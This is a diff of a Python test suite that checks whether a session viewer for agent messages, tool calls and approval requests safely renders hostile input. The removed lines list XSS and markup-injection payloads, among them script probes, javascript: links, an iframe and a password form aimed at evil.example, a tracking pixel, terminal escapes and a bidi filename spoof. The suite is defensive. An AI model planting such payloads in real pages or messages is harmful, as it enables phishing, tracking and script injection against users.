@@ -9,45 +9,19 @@ from sessions.models import EventDraft, File, Metadata
 from sessions.templatetags.prose import TAGS, prose
 from sessions.web.tabs import TABS
 from tests.factories import make_events, make_message, make_session
+from tests.hostile import CORPUS
 from tests.web.markup import parse
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><use href=data:image/svg+xml,x></svg>",
-    '"><script>alert(1)</script>',
-    "' onmouseover='alert(1)",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt&#58;alert(1))",
-    "[click](data:text/html,<script>alert(1)</script>)",
-    "[click](vbscript:x)",
-    "[click](/sign-out/)",
-    "[click](//evil.example/)",
-    "![tracker](https://evil.example/pixel.png)",
-    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "<javascript:alert(1)>",
-    '<https://ok.example/" onclick="alert(1)>',
-    '```"><script>alert(1)</script>\ncode\n```',
-    "```html\n<script>alert(1)</script>\n```",
-    "| a |\n|---|\n| <b onclick=x>y</b> |",
-    "<style>*{display:none}</style>",
-    "<iframe src=//evil.example></iframe>",
-    "<form action=//evil.example><input name=password></form>",
-    '<a href="x" style="position:fixed">x</a>',
-    "</div></article></main><h1>fake</h1>",
-    "{{ settings.SECRET_KEY }} {% load x %}",
-    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
-    "\x1b[2J\x1b[1;1H",
-    "invoice\u202egnp.exe",
-    "\u2066hidden\u2069 zero\u200bwidth \ufeff",
-    "\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
-    "nul \x00 bell \x07 back \x08",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
-    "a\u2028b\u2029c",
-    "[" * 2000,
-    "*a " * 2000,
-    "> " * 500 + "deep",
-]
+ATTACKS = {name: text[:50_000] for name, text in CORPUS.items()}
+
+
+def batches(count):
+    """Return the attacks in lists of so many, each with the name of its first."""
+    names = list(ATTACKS)
+    starts = range(0, len(names), count)
+    return [pytest.param([ATTACKS[name] for name in names[at : at + count]], id=names[at]) for at in starts]
+
+
 OURS = {"a", "article", "b", "button", "code", "details", "div", "header", "span", "summary", "svg", "time", "use"}
 HIDING = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff\x00\x07\x08\x1b\u2028\u2029")
 
@@ -62,13 +36,14 @@ def check_clean(root):
     assert not HIDING & set(root.text)
 
 
-@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
-def test_a_message_is_harmless(owner, reader, attack):
+@pytest.mark.parametrize("attacks", batches(5))
+def test_messages_are_harmless(owner, reader, attacks):
     session = make_session(owner)
-    for role in ("user", "assistant", "system", "tool"):
-        make_message(session, role=role, content=attack, thinking=attack)
+    for attack in attacks:
+        for role in ("user", "assistant", "system", "tool"):
+            make_message(session, role=role, content=attack, thinking=attack)
     shown = parse(reader.get(f"/sessions/{session.uuid}/").content)
-    assert len(shown.all("article", "message")) == 4
+    assert len(shown.all("article", "message")) == 4 * len(attacks)
     assert len(shown.all("h1")) == 1
     for message in shown.all("article", "message"):
         check_clean(message)
@@ -78,35 +53,31 @@ def test_a_message_is_harmless(owner, reader, attack):
             assert not link.attrs.get("href", "").startswith("/")
 
 
-@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
-def test_names_arguments_outputs_and_requests_are_harmless(owner, reader, attack):
-    name = attack.replace("\x00", "")[:300]
-    session = make_session(owner, title=name, agent_name=name, project_root=f"/srv/{name}", model=name)
-    call = {"id": "1", "name": name, "arguments": {name: attack, "command": attack}}
-    make_message(session, role="assistant", content="x", tool_calls=[call], agent_name=name, model=name)
-    make_message(session, role="tool", tool_call_id="1", content=attack)
-    preview = {"replacements": [{"old_lines": [attack], "new_lines": [attack, attack]}]}
-    make_events(
-        session,
-        {"type": "turn_start", "turn_id": "t"},
-        {"type": "tool_call_start", "id": "2", "name": name, "args": {"command": attack}, "turn_id": "t"},
-        {
-            "type": "approval_request",
-            "id": "q",
-            "tool_name": name,
-            "detail": attack,
-            "preview": preview,
-            "turn_id": "t",
-        },
-    )
-    Metadata.objects.put(session, "todo", f"- [ ] {attack}")
-    Metadata.objects.put(session, name or "key", attack)
-    File.objects.own(session, name or "path")
-    calls = session.tool_calls.values_list("pk", flat=True)
+@pytest.mark.parametrize("attacks", batches(10))
+def test_names_arguments_outputs_and_requests_are_harmless(owner, reader, attacks):
+    names = [attack.replace("\x00", "")[:300] for attack in attacks]
+    first = names[0]
+    session = make_session(owner, title=first, agent_name=first, project_root=f"/srv/{first}", model=first)
+    make_events(session, {"type": "turn_start", "turn_id": "t"})
+    for at, (name, attack) in enumerate(zip(names, attacks, strict=True)):
+        call = {"id": f"m{at}", "name": name, "arguments": {name: attack, "command": attack}}
+        make_message(session, role="assistant", content="x", tool_calls=[call], agent_name=name, model=name)
+        make_message(session, role="tool", tool_call_id=f"m{at}", content=attack)
+        preview = {"replacements": [{"old_lines": [attack], "new_lines": [attack, attack]}]}
+        asked = {"tool_name": name, "detail": attack, "preview": preview, "turn_id": "t"}
+        make_events(
+            session,
+            {"type": "tool_call_start", "id": f"e{at}", "name": name, "args": {"command": attack}, "turn_id": "t"},
+            {"type": "approval_request", "id": f"q{at}", **asked},
+        )
+        Metadata.objects.put(session, f"{at} {name}", attack)
+        File.objects.own(session, f"{at} {name}")
+    Metadata.objects.put(session, "todo", "".join(f"- [ ] {attack}\n" for attack in attacks))
     base = f"/sessions/{session.uuid}/"
-    plain = [url for pk in calls for url in (f"{base}tools/{pk}/",)]
+    plain = [f"{base}tools/{pk}/" for pk in session.tool_calls.values_list("pk", flat=True)]
+    events = [f"{base}events/{seq}/" for seq in session.events.values_list("seq", flat=True)]
     tabs = [f"{base}?tab={tab}" for tab in TABS]
-    for url in ("/", *tabs, f"{base}events/5/", f"{base}delete/", *plain):
+    for url in ("/", *tabs, *events, f"{base}delete/", f"{base}?find=alert", *plain):
         response = reader.get(url)
         assert response.status_code == 200
         main = parse(response.content).one("main")
